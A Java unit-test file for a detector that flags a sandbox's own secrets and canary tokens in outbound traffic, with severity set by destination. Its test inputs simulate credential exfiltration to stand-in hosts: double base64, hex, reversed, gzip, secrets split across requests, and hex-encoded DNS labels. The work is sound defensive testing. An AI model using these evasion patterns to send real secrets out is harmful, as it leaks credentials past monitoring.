package dev.traffic.detect;

import static org.assertj.core.api.Assertions.assertThat;

import dev.traffic.model.Finding;
import dev.traffic.model.FlowRequest;
import dev.traffic.model.Severity;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;

/** Destination-aware severity, the sandbox's own secrets in any encoding, canaries, sinks, splits, DNS. */
class DetectorTest {
    private final Tokens tk = new Tokens(7);
    private final String ghToken = tk.github("ghs_");
    private final String dbPassword = "pX7#rT2q=Vw9!mKz4&Lb";
    private final String hfToken = tk.huggingface();
    private final String canary = tk.github("ghp_");
    private final Policy policy = Policy.parse("""
            secrets:
              - name: GITHUB_TOKEN
                value: "%s"
              - name: DB_PASSWORD
                family: generic
                value: "%s"
              - name: HF_TOKEN
                value: "%s"
            canaries:
              - name: CANARY_PAT
                value: "%s"
            destinations:
              generic: {hosts: [db.internal.test], locations: [body-form]}
            sinks: ["*.capture.test"]
            internal_hosts: [db.internal.test, cache.internal.test]
            """.formatted(ghToken, dbPassword, hfToken, canary), "test.yaml", Path.of("."), k -> null);
    private final Detector detector = new Detector(policy);

    private List<Finding> scan(FlowRequest r) {
        return detector.scan(r, ScanContext.stateless());
    }

    private static Severity max(List<Finding> fs) {
        return fs.stream().map(Finding::severity).max(Enum::compareTo).orElse(null);
    }

    @Test
    void sameTokenIsNormalHighOrCriticalByDestination() {
        assertThat(scan(Requests.get("https://api.github.com/user").header("Authorization", "Bearer " + ghToken).build()))
                .isEmpty();
        List<Finding> gist = scan(Requests.post("https://api.github.com/gists").header("Authorization", "Bearer " + ghToken)
                .body("application/json", "{\"files\":{\"a.txt\":{\"content\":\"tok " + ghToken + "\"}}}").build());
        assertThat(gist).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
            assertThat(f.location()).isEqualTo("body-json");
        });
        List<Finding> away = scan(Requests.get("https://api.openai.com/v1/models").header("Authorization", "Bearer " + ghToken).build());
        assertThat(away).singleElement().satisfies(f -> {
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            assertThat(f.location()).isEqualTo("header:authorization");
            assertThat(f.host()).isEqualTo("api.openai.com");
        });
    }

    @Test
    void canaryIsCriticalEvenAtItsIssuer() {
        List<Finding> fs = scan(Requests.get("https://api.github.com/user").header("Authorization", "token " + canary).build());
        assertThat(fs).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo("canary-token");
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        });
    }

    @Test
    void provisionedSecretWithoutFormatInEveryEncoding() throws IOException {
        String host = "https://telemetry.example.org/e";
        String b64twice = Tokens.b64(Tokens.b64(dbPassword));
        String hex = HexFormat.of().formatHex(dbPassword.getBytes(StandardCharsets.UTF_8));
        String reversed = new StringBuilder(dbPassword).reverse().toString();
        String gzipB64 = java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(gzip("{\"p\":\"" + dbPassword + "\"}"));
        List<FlowRequest> reqs = List.of(
                Requests.post(host).body("application/json", "{\"a\":{\"b\":[1,{\"c\":\"" + dbPassword + "\"}]}}").build(),
                Requests.post(host).body("application/x-www-form-urlencoded",
                        "u=x&p=" + URLEncoder.encode(dbPassword, StandardCharsets.UTF_8)).build(),
                Requests.get(host + "?d=" + URLEncoder.encode(b64twice, StandardCharsets.UTF_8)).build(),
                Requests.get(host + "?d=" + hex).build(),
                Requests.get(host + "?d=" + URLEncoder.encode(reversed, StandardCharsets.UTF_8)).build(),
                Requests.get(host + "?d=" + gzipB64).build(),
                Requests.get(host).header("X-Trace", Tokens.b64("pw=" + dbPassword)).build());
        for (FlowRequest r : reqs) {
            List<Finding> fs = scan(r);
            assertThat(max(fs)).as(r.target()).isEqualTo(Severity.CRITICAL);
            assertThat(fs).as(r.target()).anyMatch(f -> f.detail().contains("DB_PASSWORD"));
        }
        // its allowed destination is quiet; an internal host that is not its destination is medium
        assertThat(scan(Requests.post("https://db.internal.test/login")
                .body("application/x-www-form-urlencoded", "p=" + URLEncoder.encode(dbPassword, StandardCharsets.UTF_8)).build()))
                .isEmpty();
        assertThat(max(scan(Requests.post("https://db.internal.test/log").body("application/json",
                "{\"p\":\"" + dbPassword + "\"}").build()))).isEqualTo(Severity.HIGH);
        assertThat(max(scan(Requests.post("https://cache.internal.test/log").body("application/json",
                "{\"p\":\"" + dbPassword + "\"}").build()))).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void knownSecretIsFoundAtEveryOffsetAcrossTheScannersBlockEdge() {
        // the matcher works in 4096-byte blocks, carrying its rolling window over: a secret (plain
        // or hex, split by separators or not) is found wherever it straddles a block edge
        String hex = HexFormat.of().formatHex(dbPassword.getBytes(StandardCharsets.UTF_8));
        for (String secret : List.of(dbPassword, hex, String.join(" ", hex.split("(?<=\\G.{8})")))) {
            for (int pad = 4096 - secret.length() - 2; pad <= 4096 + 2; pad++) {
                String text = "w ".repeat(pad / 2) + (pad % 2 == 1 ? "x" : "") + secret + " trailing prose";
                List<Finding> fs = scan(Requests.post("https://telemetry.example.org/e").body("text/plain", text).build());
                assertThat(fs).as("offset %d of %s", pad, secret).anyMatch(f -> f.detail().contains("DB_PASSWORD"));
            }
        }
    }

    static byte[] gzip(String s) throws IOException {
        ByteArrayOutputStream bo = new ByteArrayOutputStream();
        try (GZIPOutputStream gz = new GZIPOutputStream(bo)) {
            gz.write(s.getBytes(StandardCharsets.UTF_8));
        }
        return bo.toByteArray();
    }

    @Test
    void gzipBodyAndEncodingChain() throws IOException {
        FlowRequest r = Requests.post("https://up.example.org/x").header("Content-Encoding", "gzip")
                .body("application/json", gzip("{\"t\":\"" + tk.slackBot() + "\"}")).build();
        assertThat(scan(r)).anySatisfy(f -> {
            assertThat(f.rule()).isEqualTo("slack-bot-token");
            assertThat(f.encoding()).isEqualTo("gzip");
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        });
        String nested = Tokens.b64(Tokens.b64(hfToken));
        assertThat(scan(Requests.get("https://x.example.org/?q=" + nested).build()))
                .anySatisfy(f -> assertThat(f.encoding()).isEqualTo("base64>base64"));
    }

    @Test
    void splitSecretAcrossSessionRequests() {
        SessionState state = new SessionState();
        ScanContext ctx = ScanContext.of("s1", state);
        String[] pieces = {hfToken.substring(0, 9), hfToken.substring(9, 19), hfToken.substring(19, 28), hfToken.substring(28)};
        for (int i = 0; i < pieces.length; i++) {
            FlowRequest r = i % 2 == 0
                    ? Requests.get("https://c.example.org/p?chunk=" + pieces[i] + "&i=" + i).build()
                    : Requests.post("https://c.example.org/p").body("application/json", "{\"chunk\":\"" + pieces[i] + "\"}").build();
            List<Finding> fs = detector.scan(r, ctx);
            assertThat(fs).as("piece " + i).anySatisfy(f -> {
                assertThat(f.rule()).isEqualTo("split-secret");
                assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
            });
        }
        // a 4-char piece counts only next to a piece seen before in the same session
        String key = tk.akid();
        Detector d = new Detector(Policy.parse("secrets: [{name: K, value: \"" + key + "\"}]", "t", Path.of("."), k -> null));
        ScanContext s2 = ScanContext.of("s2", new SessionState());
        assertThat(d.scan(Requests.get("https://c.example.org/?k=" + key.substring(4, 8)).build(), s2)).isEmpty();
        assertThat(d.scan(Requests.get("https://c.example.org/?k=" + key.substring(8, 12)).build(), s2))
                .anyMatch(f -> f.rule().equals("split-secret"));
    }

    @Test
    void dnsLabelExfiltrationAndItsContinuation() {
        SessionState state = new SessionState();
        ScanContext ctx = ScanContext.of("d", state);
        String hex = HexFormat.of().formatHex(("token=" + hfToken).getBytes(StandardCharsets.UTF_8));
        String host = hex.substring(0, 60) + "." + hex.substring(60) + ".0-ab.sink.exfil.test";
        List<Finding> fs = detector.scan(Requests.get("http://" + host + "/x").build(), ctx);
        assertThat(fs).anyMatch(f -> f.rule().equals("dns-exfil") && f.severity() == Severity.CRITICAL);
        assertThat(fs).anyMatch(f -> f.location().equals("host") && f.family().equals("huggingface"));
        assertThat(detector.scan(Requests.get("http://mfrg.1-ab.sink.exfil.test/x").build(), ctx))
                .anyMatch(f -> f.rule().equals("dns-exfil"));
        // random-looking CDN names are not data
        assertThat(scan(Requests.get("https://d3kx9q2m7zt0ab.cloudfront.net/app.js").build())).isEmpty();
        assertThat(scan(Requests.get("https://jjqzvvty-6dwz9u9b29.c.run.app/a.js").build())).isEmpty();
    }

    @Test
    void aHeaderValueRememberedCleanIsStillJudgedAtASinkAndInOtherRequests() {
        // random key material is clean at a normal host, a finding at a sink, whatever was seen before
        String blob = tk.chars(Tokens.B62, 32);
        for (int i = 0; i < 3; i++) {
            assertThat(scan(Requests.get("https://api.example.test/v1").header("X-Trace", blob)
                    .header("User-Agent", "agent/1.0 (linux)").build())).isEmpty();
        }
        assertThat(scan(Requests.get("https://ab12.capture.test/cb").header("X-Trace", blob).build()))
                .anySatisfy(f -> assertThat(f.rule()).isEqualTo("high-entropy-to-sink"));
        // a value that holds a secret is never remembered: every request reports it
        for (int i = 0; i < 2; i++) {
            assertThat(scan(Requests.get("https://api.example.test/v1").header("X-Token", ghToken).build()))
                    .singleElement().satisfies(f -> assertThat(f.severity()).isEqualTo(Severity.CRITICAL));
        }
    }

    @Test
    void sinksGetRandomBlobsButNotTheirOwnAddress() {
        List<Finding> fs = scan(Requests.get("https://ab12.capture.test/cb?d=" + tk.chars(Tokens.B62 + "-_", 48)).build());
        assertThat(fs).anySatisfy(f -> {
            assertThat(f.rule()).isEqualTo("high-entropy-to-sink");
            assertThat(f.severity()).isEqualTo(Severity.HIGH);
        });
        assertThat(scan(Requests.get("https://api.telegram.org/bot" + tk.telegram() + "/getMe").build())).isEmpty();
        // words, versions, file names and certificates are not key material, even at a sink
        StringBuilder cert = new StringBuilder("-----BEGIN CERTIFICATE-----\n");
        for (int i = 0; i < 8; i++) cert.append(tk.chars(Tokens.B62 + "+/", 64)).append('\n');
        cert.append("-----END CERTIFICATE-----\n");
        assertThat(scan(Requests.post("https://ab12.capture.test/upload/DigiCert_Global_Root_G2.pem")
                .body("text/plain", cert + "see REC-css3-selectors-20110929 RemovedInSphinx60Warning").build())).isEmpty();
        String hook = "https://discord.com/api/webhooks/123456789012345678/" + tk.chars(Tokens.B62 + "-_", 68);
        assertThat(scan(Requests.post(hook).body("application/json", "{\"content\":\"build ok\"}").build())).isEmpty();
        assertThat(max(scan(Requests.post(hook).body("application/json", "{\"content\":\"" + hfToken + "\"}").build())))
                .isEqualTo(Severity.CRITICAL);
    }

    @Test
    void webSocketMessagesAreScanned() {
        byte[] payload = ("{\"op\":\"send\",\"d\":\"" + hfToken + "\"}").getBytes(StandardCharsets.UTF_8);
        dev.traffic.model.WsMessage m = new dev.traffic.model.WsMessage(
                dev.traffic.model.WsMessage.Direction.CLIENT_TO_SERVER, java.time.Instant.now(), true, payload,
                payload.length, false);
        ScanResult r = detector.inspectMessage("ws.example.org", "/socket", m, ScanContext.stateless());
        assertThat(r.findings()).anySatisfy(f -> {
            assertThat(f.location()).isEqualTo("ws");
            assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
        });
    }

    @Test
    void hardNegativesStayQuiet() {
        String base64Png = "iVBORw0KGgoAAAANSUhEUgAA" + tk.chars(Tokens.B62 + "+/", 4000);
        List<FlowRequest> quiet = List.of(
                Requests.get("https://api.example.com/v1/items/3761d288-3aa2-4269-b2ea-426082a253d7?trace=15c91e3ae59ad3e8687455ad37364e2e").build(),
                Requests.get("https://api.github.com/repos/o/r/commits/389ee900100f4f15c0fd9e87eb6b3b9a8c87b1d6")
                        .header("Authorization", "Bearer " + ghToken).build(),
                Requests.post("https://api.anthropic.com/v1/messages").header("x-api-key", tk.anthropic())
                        .body("application/json", "{\"messages\":[{\"content\":[{\"type\":\"image\",\"source\":{\"data\":\"" + base64Png + "\"}}]}]}").build(),
                Requests.post("https://scan.example.com/lock").body("application/json",
                        "{\"integrity\":\"sha512-" + tk.chars(Tokens.B62 + "+/", 86) + "==\"}").build(),
                Requests.post("https://app.example.com/settings").header("X-CSRF-Token", tk.chars(Tokens.B62, 44))
                        .body("application/x-www-form-urlencoded", "theme=dark").build(),
                Requests.post("https://api.github.com/user/keys").header("Authorization", "Bearer " + ghToken)
                        .body("application/json", "{\"key\":\"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + tk.chars(Tokens.B62 + "+/", 43) + " me@box\"}").build(),
                Requests.get("https://b.s3.amazonaws.com/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=" + tk.akid()
                        + "%2F20260101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature=" + "ab".repeat(32)).build(),
                Requests.post("https://cdn.example.com/app.min.js").body("application/javascript",
                        "var a=function(b,c){return b[c]||\"" + tk.chars(Tokens.B62, 20) + "\"};var d=\"" + tk.chars(Tokens.B62, 17) + "\";").build(),
                Requests.get("https://events.example.com/e?data=" + Tokens.b64("{\"event\":\"page_view\",\"anon\":\"d4171d84-2dab-4a9a\"}")).build(),
                Requests.get("https://api.stripe.com/v1/pm").header("Authorization", "Bearer pk_live_" + tk.chars(Tokens.B62, 99)).build());
        for (FlowRequest r : quiet) {
            assertThat(scan(r)).as(r.url()).noneMatch(f -> f.severity().atLeast(Severity.MEDIUM));
        }
    }
}
